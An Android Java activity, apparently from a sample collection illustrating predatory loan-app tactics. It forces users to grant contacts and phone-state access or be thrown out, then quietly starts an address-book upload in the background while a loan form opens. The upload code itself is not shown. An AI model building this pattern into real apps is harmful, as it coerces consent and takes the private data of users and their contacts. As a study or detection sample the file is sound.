package org.kinsafe.sample.harvesting;

import android.Manifest;
import android.content.Intent;
import android.content.pm.PackageManager;
import android.widget.Toast;
import org.kinsafe.sample.common.R;
import org.kinsafe.sample.common.SplashActivity;

/**
 * Shows coercion: asks for the address book before anything else and leaves when the user refuses.
 * A yes starts the upload in the background while the loan form opens.
 */
public final class StartActivity extends SplashActivity {
  private static final int ASK_PERMISSIONS = 1;

  @Override
  protected void onConsent() {
    if (checkSelfPermission(Manifest.permission.READ_CONTACTS) == PackageManager.PERMISSION_GRANTED) {
      enter();
    } else {
      requestPermissions(
          new String[] {Manifest.permission.READ_CONTACTS, Manifest.permission.READ_PHONE_STATE}, ASK_PERMISSIONS);
    }
  }

  @Override
  public void onRequestPermissionsResult(int requestCode, String[] permissions, int[] grantResults) {
    if (requestCode != ASK_PERMISSIONS) {
      return;
    }
    if (allGranted(grantResults)) {
      enter();
    } else {
      Toast.makeText(this, R.string.permission_refused, Toast.LENGTH_LONG).show();
      finishAffinity();
    }
  }

  private static boolean allGranted(int[] grantResults) {
    for (int result : grantResults) {
      if (result != PackageManager.PERMISSION_GRANTED) {
        return false;
      }
    }
    return grantResults.length > 0;
  }

  private void enter() {
    new Thread(() -> BookUpload.run(getContentResolver())).start();
    startActivity(new Intent(this, LoanActivity.class));
    finish();
  }
}
